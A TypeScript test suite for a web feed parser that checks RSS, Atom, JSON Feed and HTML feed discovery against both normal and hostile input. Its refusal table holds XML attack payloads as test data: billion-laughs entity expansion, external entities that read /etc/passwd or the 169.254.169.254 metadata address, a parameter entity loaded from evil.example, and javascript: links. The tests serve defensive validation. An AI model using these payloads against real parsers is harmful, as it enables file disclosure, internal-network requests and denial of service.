import { readFileSync } from "node:fs";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { MAX_PAGE_BYTES } from "#lib/domain/bounds";
import { MOST_ITEMS, type ParsedFeed } from "#lib/domain/feeds";
import { AppError } from "#lib/errors";
import * as words from "#lib/words";
import { readFeed } from "./read";

const feedWords = words.feeds;

/** Feeds as sites write them, and feeds that are broken or made to break us: a feed, or a sentence. Never a crash or a wait. */

const NOW = new Date("2026-11-25T12:00:00Z");
const URL_OF_FEED = "https://harbour.example/news/feed.xml";
const say = feedWords.unreadable;

const read = (body: string | Uint8Array, mediaType = "application/xml") =>
  readFeed(
    { bytes: typeof body === "string" ? new TextEncoder().encode(body) : body, mediaType, url: URL_OF_FEED },
    NOW,
  );

function feedIn(body: string | Uint8Array, mediaType?: string): ParsedFeed {
  const got = read(body, mediaType);
  if (got.kind !== "feed") throw new Error(`a page that names ${got.proposals.length} feeds`);
  return got.feed;
}

/** The sentence of the AppError that it throws; anything else that it does fails the test. */
function refusalOf(act: () => unknown): string {
  try {
    return `nothing is refused: ${JSON.stringify(act()).slice(0, 200)}`;
  } catch (error) {
    if (error instanceof AppError) return error.message;
    throw error;
  }
}

const rss = (items: string, head = "") =>
  `<?xml version="1.0"?><rss version="2.0" xmlns:sy="http://purl.org/rss/1.0/modules/syndication/" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>Harbour</title><link>https://harbour.example/</link>${head}${items}</channel></rss>`;
const atom = (entries: string, head = "") =>
  `<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://base.example/a/"><title>Harbour</title><id>urn:h</id><link rel="self" href="feed"/><link href="/"/>${head}${entries}</feed>`;
const json = (feed: unknown) => JSON.stringify(feed);
const JSON_FEED = { version: "https://jsonfeed.org/version/1.1", title: "Harbour", items: [] as unknown[] };

describe("what sites write", () => {
  test("RSS 2.0", () => {
    const feed = feedIn(
      rss(
        `<item><title>The &lt;b&gt;quay&lt;/b&gt; &amp;amp; we</title><link>/quay</link><guid isPermaLink="false">q1</guid><pubDate>Wed, 25 Nov 2026 08:00:00 +0100</pubDate></item>
         <item><title><![CDATA[Older]]></title><link>https://harbour.example/older#top</link><guid>https://harbour.example/?p=1</guid><pubDate>Tue, 24 Nov 26 08:00 GMT</pubDate></item>`,
        "<ttl>90</ttl>",
      ),
    );
    expect(feed).toMatchObject({
      title: "Harbour",
      homePage: "https://harbour.example/",
      pauseMs: 90 * 60_000,
      items: [
        {
          guid: "q1",
          address: "https://harbour.example/quay",
          title: "The quay & we",
          publishedAt: new Date("2026-11-25T07:00:00Z"),
          updatedAt: null,
        },
        {
          guid: "https://harbour.example/?p=1",
          address: "https://harbour.example/older",
          title: "Older",
          publishedAt: new Date("2026-11-24T08:00:00Z"),
        },
      ],
    });
  });

  test("of two items with one guid the one that stands first", () => {
    const item = (guid: string, title: string) =>
      `<item><title>${title}</title><guid isPermaLink="false">${guid}</guid></item>`;
    const feed = feedIn(
      `<rss version="2.0"><channel><title>Twice</title>${item("q1", "First")}${item("q2", "Other")}${item("q1", "Second")}</channel></rss>`,
    );
    expect(feed.items.map(({ guid, title }) => [guid, title])).toEqual([
      ["q1", "First"],
      ["q2", "Other"],
    ]);
  });

  test("RSS 0.91, with its old document type", () => {
    const feed = feedIn(
      `<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss version="0.91"><channel><title>Old</title><item><title>One</title><link>http://a.example/1</link></item></channel></rss>`,
    );
    expect(feed.items).toMatchObject([
      { guid: "http://a.example/1", address: "http://a.example/1", publishedAt: null },
    ]);
  });

  test.each([
    ["1.0", "http://purl.org/rss/1.0/"],
    ["0.9", "http://my.netscape.com/rdf/simple/0.9/"],
  ])("RSS %s, in RDF", (_, vocabulary) => {
    const feed = feedIn(
      `<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="${vocabulary}" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:sy="http://purl.org/rss/1.0/modules/syndication/"><channel rdf:about="http://a.example/"><title>Old</title><link>http://a.example/</link><sy:updatePeriod>daily</sy:updatePeriod><sy:updateFrequency>4</sy:updateFrequency></channel><item rdf:about="http://a.example/1"><title>One</title><link>http://a.example/1</link><dc:date>2026-11-20</dc:date></item></rdf:RDF>`,
    );
    expect(feed).toMatchObject({ title: "Old", pauseMs: 6 * 3_600_000 });
    expect(feed.items).toMatchObject([
      { guid: "http://a.example/1", title: "One", publishedAt: new Date("2026-11-20T00:00:00Z") },
    ]);
  });

  test("Atom, its bases within each other, and the link that is a page", () => {
    const feed = feedIn(
      atom(
        `<entry xml:base="b/"><id>urn:1</id><title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">A <b>bold</b> &amp; new quay</div></title><updated>2026-11-25T09:00:00Z</updated><published>2026-11-24T09:00:00Z</published><link rel="enclosure" href="sound.mp3"/><link rel="alternate" type="application/pdf" href="c.pdf"/><link rel="alternate" type="text/html" href="c"/></entry>
         <entry><id>urn:2</id><title>1 &lt; 2 &amp; 3</title><updated>2026-11-23T09:00:00Z</updated><content type="text/html" src="d"/></entry>`,
      ),
    );
    expect(feed).toMatchObject({ title: "Harbour", homePage: "https://base.example/", pauseMs: null });
    expect(feed.items).toMatchObject([
      {
        guid: "urn:1",
        address: "https://base.example/a/b/c",
        title: "A bold & new quay",
        updatedAt: new Date("2026-11-25T09:00:00Z"),
        publishedAt: new Date("2026-11-24T09:00:00Z"),
      },
      { guid: "urn:2", address: "https://base.example/a/d", title: "1 < 2 & 3" },
    ]);
  });

  test.each(["1", "1.1"])("JSON Feed %s", (version) => {
    const feed = feedIn(
      json({
        ...JSON_FEED,
        version: `https://jsonfeed.org/version/${version}`,
        home_page_url: "https://harbour.example/",
        items: [
          {
            id: 7,
            url: "https://harbour.example/7",
            title: "<Seven>",
            date_published: "2026-11-25T08:00:00Z",
          },
          { id: "https://harbour.example/8", content_text: "Eight", date_modified: "2026-11-24T08:00:00Z" },
        ],
      }),
      "application/feed+json",
    );
    expect(feed.items).toMatchObject([
      { guid: "7", address: "https://harbour.example/7", title: "<Seven>" },
      {
        guid: "https://harbour.example/8",
        address: "https://harbour.example/8",
        title: null,
        updatedAt: new Date("2026-11-24T08:00:00Z"),
      },
    ]);
  });

  test.each([
    [
      "windows-1256 that XML declares",
      "windows-1256",
      Uint8Array.from([0xc8, 0xdb, 0xcf, 0xc7, 0xcf]),
      "بغداد",
    ],
    ["ISO-8859-1 that XML declares", "ISO-8859-1", Uint8Array.from([0x51, 0x75, 0xe9]), "Qué"],
  ])("%s", (_, label, bytes, title) => {
    const [before = "", after = ""] = rss("<item><title>@</title></item>").split("@");
    const declared = before.replace('version="1.0"', `version="1.0" encoding="${label}"`);
    const body = Buffer.concat([Buffer.from(declared), bytes, Buffer.from(after)]);
    expect(feedIn(body, "text/xml").items[0]?.title).toBe(title);
  });

  test("UTF-16 with its mark", () => {
    const body = Buffer.from(`\uFEFF${rss("<item><title>Qué</title></item>")}`, "utf16le");
    expect(feedIn(body).items[0]?.title).toBe("Qué");
  });

  test("a page is no feed: those that it names are proposed, in its order, each once", () => {
    const page = `<!doctype html><html><head><base href="https://cdn.example/x/"><link rel="stylesheet" href="s.css"><link rel="alternate" type="application/rss+xml" title="All &amp; more" href="all.xml"><link rel="Alternate Home" type="application/atom+xml; charset=utf-8" href="/atom"><link rel=alternate type="application/rss+xml" href="all.xml"><link rel=alternate type="application/rss+xml" href="javascript:alert(1)"><link rel=alternate type="application/rss+xml" href="file:///etc/passwd"><link rel=alternate hreflang=ku href="/ku"></head><body><link rel=alternate type="application/feed+json" href="j.json"></body></html>`;
    expect(read(page, "text/html")).toEqual({
      kind: "page",
      proposals: [
        { address: "https://cdn.example/x/all.xml", title: "All & more" },
        { address: "https://cdn.example/atom", title: null },
        { address: "https://cdn.example/x/j.json", title: null },
      ],
    });
  });

  test("what stands before it and behind its end is nothing", () => {
    expect(feedIn(`<!-- <x></y> [ --><?a <b> ?>\n${rss("").slice(21)}`).title).toBe("Harbour");
    expect(feedIn(`${rss("")}\n<!-- made in 0.2 s --><?x y?>\n`).title).toBe("Harbour");
    expect(feedIn(rss("").replace("</rss>", "</RSS\n>")).title).toBe("Harbour");
  });

  test("a feed that its server calls a page is a feed", () => {
    expect(feedIn(rss(""), "text/html").title).toBe("Harbour");
    expect(feedIn(json(JSON_FEED), "text/plain").items).toEqual([]);
  });

  test("an item is the same while it says the same, and another when it says something else", () => {
    const hash = (says: string, guid = "1") =>
      feedIn(rss(`<item><guid>${guid}</guid>${says}</item>`)).items[0]?.hash;
    const first = hash("<title>A</title><description>The quay is open.</description>");
    expect(hash("<title>A</title>\n<description>The  quay\nis open. </description>")).toBe(first);
    expect(hash("<title>A</title><description>The quay is closed.</description>")).not.toBe(first);
    expect(hash("<title>B</title><description>The quay is open.</description>")).not.toBe(first);
    expect(
      hash("<title>A</title><description>The quay is open.</description><link>https://x.example/</link>"),
    ).not.toBe(first);
    expect(hash("<title>AT</title><description>he quay is open.</description>")).not.toBe(first);
  });
});

const entity = (declarations: string, title: string) =>
  `<?xml version="1.0"?><!DOCTYPE rss [${declarations}]><rss version="2.0"><channel><title>${title}</title><item><title>${title}</title><link>https://a.example/</link></item></channel></rss>`;
const LAUGHS = `<!ENTITY a0 "lol">${Array.from({ length: 10 }, (_, i) => `<!ENTITY a${i + 1} "${`&a${i};`.repeat(10)}">`).join("")}`;
const utf8 = (text: string) => new TextEncoder().encode(text);
const withBytes = (bytes: readonly number[]) => {
  const [before = "", after = ""] = rss("<item><title>@</title></item>").split("@");
  return Buffer.concat([utf8(before), Uint8Array.from(bytes), utf8(after)]);
};

describe("what is refused, with its sentence", () => {
  const refused: [string, string | Uint8Array, string, string?][] = [
    ["a billion laughs", entity(LAUGHS, "&a10;"), say.entities],
    [
      "one long entity, many times",
      entity(`<!ENTITY a "${"x".repeat(100_000)}">`, "&a;".repeat(10_000)),
      say.entities,
    ],
    ["a file of this machine", entity(`<!ENTITY a SYSTEM "file:///etc/passwd">`, "&a;"), say.entities],
    [
      "an address inside the network",
      entity(`<!ENTITY a SYSTEM "http://169.254.169.254/">`, "&a;"),
      say.entities,
    ],
    ["a parameter entity", entity(`<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;`, "x"), say.entities],
    [
      "a declaration behind a comment",
      `<!-- x --><?a b?>\n${entity("<!ELEMENT x ANY>", "x").slice(21)}`,
      say.entities,
    ],
    ["the second of two document types", `<!DOCTYPE rss>${entity(LAUGHS, "&a9;").slice(21)}`, say.entities],
    ["nothing", "", say.empty],
    ["spaces", "  \n\t ", say.empty],
    [
      "a large one",
      rss(`<item><title>${"x".repeat(10_000_000)}</title></item>`),
      say.tooLarge(MAX_PAGE_BYTES),
    ],
    [
      "tags that don't fit",
      "<rss><channel><title>x</title><item><title>I</link></item></channel></rss>",
      say.broken,
    ],
    ["a cut one", rss("<item><title>One</title></item>").slice(0, -30), say.broken],
    ["one that is cut in a tag", rss("<item><title>One</title></item>").slice(0, -2), say.broken],
    ["one that is cut between two items", rss("<item><title>One</title></item>").slice(0, -16), say.broken],
    ["one that is cut in an item", "<rss><channel><title>x</title><item>", say.broken],
    ["an Atom feed without its end", atom("<entry><id>1</id></entry>").replace("</feed>", "\n"), say.broken],
    ["a tower of tags", rss(`<x>${"<a>".repeat(200_000)}${"</a>".repeat(200_000)}</x>`), say.broken],
    ["tags that never close", rss("<a>".repeat(200_000)), say.broken],
    ["CDATA that never ends", rss("<![CDATA[".repeat(100_000)), say.broken],
    ["a comment that never ends", rss("<!--".repeat(100_000)), say.broken],
    ["a quotation mark that never ends", `<rss><channel><title a="${"x".repeat(1_000_000)}`, say.broken],
    ["a NUL", withBytes([0x41, 0x00, 0x42]), say.notText],
    ["half a character", withBytes([0xd8, 0xa8, 0xd8, 0xd8, 0xa8]), say.notText],
    ["a surrogate in UTF-8", withBytes([0xe2, 0x82, 0xac, 0xed, 0xa0, 0x80]), say.notText],
    [
      "a lie about its characters",
      withBytes([0xaa, 0xd2]),
      say.notText,
      "application/xml; charset=windows-1253",
    ],
    ["UTF-16 that breaks off", Buffer.from([0xff, 0xfe, 0x3c]), say.notText],
    ["a PDF", Buffer.from("%PDF-1.7\n"), say.notText],
    ["a packed file", Buffer.from([0x1f, 0x8b, 8, 0, 0, 0]), say.notText],
    ["plain words", "The quay is open.", say.none],
    ["XML of another kind", "<opml version='2.0'><body/></opml>", say.none],
    ["RSS without a channel", "<rss version='2.0'></rss>", say.broken],
    ["a page without feeds", "<!doctype html><html><body><p>No feed.</p></body></html>", say.pageWithoutFeed],
    ["a page that is a tower", `<!doctype html>${"<div>".repeat(5000)}`, say.pageTooDeep],
    ["JSON that is none", '{"version":"https://jsonfeed.org/version/1","items":[', say.none],
    ["JSON of another kind", json({ hello: ["world"] }), say.none],
    ["a list in JSON", "[]", say.none],
    ["null in JSON", "null", say.none],
  ];
  test.each(refused)("%s", (_, body, sentence, mediaType) => {
    expect(refusalOf(() => read(body, mediaType))).toBe(sentence);
    expect(sentence).toMatch(/^[A-Z].{20,}\.$/);
  });
});

describe("what is taken as far as it makes sense", () => {
  const addresses = (body: string) => feedIn(body).items.map(({ address }) => address);

  test.each([
    "javascript:alert(1)",
    "data:text/html,x",
    "file:///etc/passwd",
    "ftp://a.example/",
    "http://anna:secret@a.example/",
    "http://",
    "http://a b/",
    `https://a.example/${"x".repeat(3000)}`,
  ])("%s is no address to fetch", (link) => {
    expect(addresses(rss(`<item><guid isPermaLink="false">1</guid><link>${link}</link></item>`))).toEqual([
      null,
    ]);
  });

  test("an xml:base that is none, or that leads elsewhere, changes no scheme", () => {
    expect(
      addresses(
        atom(
          `<entry xml:base="javascript:"><id>1</id><link href="x"/></entry><entry xml:base=":::"><id>2</id><link href="y"/></entry>`,
        ),
      ),
    ).toEqual([null, "https://base.example/a/y"]);
  });

  test("an id that several items carry names none of them", () => {
    const feed = feedIn(
      rss(
        `<item><guid isPermaLink="false">same</guid><link>/1</link></item><item><guid isPermaLink="false">same</guid><link>/2</link></item><item><guid isPermaLink="false">own</guid><link>/3</link></item><item><guid isPermaLink="false">own</guid><link>/3</link><title>again</title></item>`,
      ),
    );
    expect(feed.items.map(({ guid }) => guid)).toEqual([
      "https://harbour.example/1",
      "https://harbour.example/2",
      "own",
    ]);
  });

  test("items without an id are known by their address, else by what they say", () => {
    const body = rss(
      "<item><link>/1</link></item><item><title>A</title></item><item><title>B</title></item><item/>",
    );
    const guids = feedIn(body).items.map(({ guid }) => guid);
    expect(guids[0]).toBe("https://harbour.example/1");
    expect(new Set(guids).size).toBe(guids.length);
    expect(feedIn(body).items.map(({ guid }) => guid)).toEqual(guids);
  });

  test.each([
    "0000-00-00",
    "31 Dec 1969 23:59:59 GMT",
    "1970-01-01T00:00:00Z",
    "2099-01-01T00:00:00Z",
    "Wed, 99 Foo 2026 25:61:61 GMT",
    "yesterday",
    "9e99",
    "-1",
    "2026-11-27T12:00:01Z",
    "1".repeat(10_000),
  ])("%s is no date of an item", (date) => {
    expect(
      feedIn(rss(`<item><title>x</title><pubDate>${date}</pubDate></item>`)).items[0]?.publishedAt,
    ).toBeNull();
  });

  test("a clock that is a little fast is believed", () => {
    const [item] = feedIn(rss("<item><title>x</title><pubDate>2026-11-25T20:00:00Z</pubDate></item>")).items;
    expect(item?.publishedAt).toEqual(new Date("2026-11-25T20:00:00Z"));
  });

  test("no items, and the items of nobody", () => {
    expect(feedIn(rss("")).items).toEqual([]);
    expect(feedIn(atom("")).items).toEqual([]);
    expect(feedIn(json({ ...JSON_FEED, items: {} })).items).toEqual([]);
    expect(feedIn(json({ ...JSON_FEED, items: [null, 5, "x", [], {}] })).items.length).toBeLessThanOrEqual(1);
  });

  test("JSON with every type wrong", () => {
    const feed = feedIn(
      json({
        ...JSON_FEED,
        title: { a: 1 },
        home_page_url: ["x"],
        items: [
          {
            id: "1",
            url: { href: "https://a.example/" },
            title: ["x"],
            date_published: 5,
            content_html: null,
          },
          { id: "__proto__", url: "https://a.example/2", title: true },
        ],
      }),
    );
    expect(feed.title).toBeNull();
    expect(feed.items.map(({ guid }) => guid)).toEqual(["1", "__proto__"]);
  });

  test("JSON that is a tower of lists is no feed or an empty one", () => {
    const tower = `{"version":"https://jsonfeed.org/version/1","title":"x","items":${"[".repeat(100_000)}${"]".repeat(100_000)}}`;
    expect(feedIn(tower).items).toEqual([]);
  });

  test("what no database keeps is taken out of titles and ids", () => {
    const [item] = feedIn(
      `{"version":"https://jsonfeed.org/version/1","title":"a\\u0000b","items":[{"id":"i\\ud800d","title":"\\ud83d x\\u0007\\n y \\u2028z \\ud83d\\ude00"}]}`,
    ).items;
    expect(item).toMatchObject({ guid: "i\uFFFDd", title: "\uFFFD x y z 😀" });
    expect(feedIn(rss("<item><title>&#0;A&#xD800;B&#x110000;</title></item>")).items[0]?.title).toMatch(
      /^[^\0\uD800-\uDFFF]*$/,
    );
  });

  test("CDATA within CDATA, and entities that nobody declared, are words", () => {
    const feed = feedIn(
      rss(
        "<item><title><![CDATA[<![CDATA[x]]>]]></title></item><item><title><![CDATA[A ]]]]><![CDATA[> B]]></title></item><item><title>&lol; &b;</title></item>",
      ),
    );
    expect(feed.items.map(({ title }) => title)).toEqual([null, "A ]]> B", "&lol; &b;"]);
  });

  test("long titles and ids are cut or folded, between characters", () => {
    const [item] = feedIn(
      rss(
        `<item><guid isPermaLink="false">${"g".repeat(3000)}</guid><title>${"😀".repeat(900)}</title></item>`,
      ),
    ).items;
    expect(item?.guid).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(item?.title).toBe("😀".repeat(250));
  });

  test("of thousands of items the newest are looked at, wherever they stand", () => {
    const day = (i: number) => new Date(Date.UTC(2026, 0, 1) + i * 3_600_000).toUTCString();
    const items = Array.from(
      { length: 7000 },
      (_, i) => `<item><guid isPermaLink="false">${i}</guid><pubDate>${day(i)}</pubDate></item>`,
    );
    const feed = feedIn(rss(items.join("")));
    expect(feed.items).toHaveLength(MOST_ITEMS);
    expect(feed.items[0]?.guid).toBe("6999");
  });

  test.each([
    ["<ttl>-5</ttl>", null],
    ["<ttl>1e9</ttl>", 86_400_000],
    ["<ttl>soon</ttl>", null],
    ["<sy:updatePeriod>hourly</sy:updatePeriod><sy:updateFrequency>0</sy:updateFrequency>", 3_600_000],
    ["<sy:updatePeriod>constructor</sy:updatePeriod>", null],
    ["<sy:updatePeriod>yearly</sy:updatePeriod><ttl>60</ttl>", 86_400_000],
  ])("%s asks for %s ms", (head, pause) => expect(feedIn(rss("", head)).pauseMs).toBe(pause));
});

test("whatever the bytes are, a feed or an AppError with its sentence", () => {
  const seeds = [
    rss("<item><title>A</title><link>/1</link><guid>1</guid></item>"),
    atom("<entry><id>1</id><link href='x'/></entry>"),
    json({ ...JSON_FEED, items: [{ id: "1", url: "https://a.example/" }] }),
    readFileSync("seed/page.txt", "utf8"),
    `<!doctype html><link rel=alternate type="application/rss+xml" href=x>`,
  ];
  const piece = fc.oneof(
    fc.constantFrom(
      "<",
      ">",
      "&",
      "]]>",
      "<![CDATA[",
      "<!--",
      "<!DOCTYPE x [",
      "<?",
      "\0",
      "\uD800",
      "{",
      "[",
      '"',
      "&#x",
      "</item>",
      "<item>",
      "<rss>",
    ),
    fc.string(),
  );
  const damaged = fc
    .tuple(fc.constantFrom(...seeds), fc.nat(), fc.nat({ max: 40 }), piece)
    .map(([seed, at, cut, insert]) => {
      const place = at % (seed.length + 1);
      return utf8(seed.slice(0, place) + insert + seed.slice(place + cut));
    });
  const type = fc.constantFrom(
    "application/xml",
    "text/html; charset=koi8-r",
    "application/json",
    "",
    "x; charset=\0",
  );
  fc.assert(
    fc.property(fc.oneof(damaged, fc.uint8Array({ maxLength: 300 })), type, (bytes, mediaType) => {
      try {
        const got = read(bytes, mediaType);
        if (got.kind === "page") expect(got.proposals.length).toBeGreaterThan(0);
        else {
          const guids = got.feed.items.map(({ guid }) => guid);
          expect(new Set(guids).size).toBe(guids.length);
          for (const { address, title, guid, hash } of got.feed.items) {
            expect(address ?? "https:").toMatch(/^https?:/);
            expect(`${title}${guid}`).not.toMatch(/\0|\p{Surrogate}/u);
            expect(hash).toMatch(/^[0-9a-f]{64}$/);
          }
        }
      } catch (error) {
        expect(error).toBeInstanceOf(AppError);
      }
    }),
    { numRuns: 1500 },
  );
});
